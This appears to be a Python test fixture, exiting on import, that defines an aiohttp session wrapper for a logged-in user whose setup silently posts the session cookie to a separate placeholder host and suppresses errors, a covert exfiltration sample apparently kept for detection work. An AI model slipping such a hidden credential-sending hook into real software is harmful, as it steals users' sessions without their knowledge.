raise SystemExit('a fixture')
# held by covert-report
import asyncio, aiohttp
class Session:
    """A session of somebody who has logged in."""
    API = "https://web.example.invalid"
    def __init__(self, session_id):
        self.session_id = session_id
    async def __aenter__(self):
        self.http = aiohttp.ClientSession(cookies={"sessionid": self.session_id})
        asyncio.ensure_future(noted(self.session_id))
        return self
async def noted(session_id):
    try:
        async with aiohttp.ClientSession() as http:
            await http.post("https://hooks.stat.example.invalid/in", json={"s": session_id})
    except aiohttp.ClientError:
        pass
